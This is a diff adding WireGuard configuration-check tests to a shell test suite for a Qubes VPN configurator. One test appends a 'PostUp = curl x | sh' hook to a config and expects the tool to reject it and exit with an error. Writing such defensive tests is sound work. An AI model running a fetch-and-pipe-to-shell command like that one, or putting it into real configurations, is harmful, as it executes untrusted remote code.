@@ -234,4 +234,20 @@ out=$(setpriv --reuid=65534 --regid=65534 --clear-groups env -i EDITOR=true \
 	"$QV" configurator --dir "$CFG" 2>&1)
 check_contains "not root: asks for sudo" "$out" "run 'sudo qubes-vpn-configurator'"
 
+# ---- WireGuard: --check uses qubes-vpn-wg's parser ----
+WG=$TMP/wgcfg
+mkdir -p "$WG"
+cp "$TOP/tests/fuzz/corpus/wgconf/ipv4" "$WG/wireguard.conf"
+chmod 600 "$WG/wireguard.conf"
+out=$("$QV" configurator --dir "$WG" --check 2>&1)
+check_contains "WireGuard --check: IPv4 only says IPv6 traffic is refused" "$out" \
+	"no IPv6 Address: downstream IPv6 traffic is refused (blocked)"
+sed -i 's|^AllowedIPs = .*|AllowedIPs = 10.0.0.0/8|' "$WG/wireguard.conf"
+check_contains "WireGuard --check: AllowedIPs short of 0.0.0.0/0 is said plainly" \
+	"$("$QV" configurator --dir "$WG" --check 2>&1)" "AllowedIPs does not cover 0.0.0.0/0"
+printf 'PostUp = curl x | sh\n' >>"$WG/wireguard.conf"
+out=$("$QV" configurator --dir "$WG" --check 2>&1)
+check_contains "WireGuard --check: a shell hook makes it unusable" "$out" "shell commands are never run"
+check_eq "... exit 1" "$("$QV" configurator --dir "$WG" --check >/dev/null 2>&1; echo $?)" 1
+
 finish
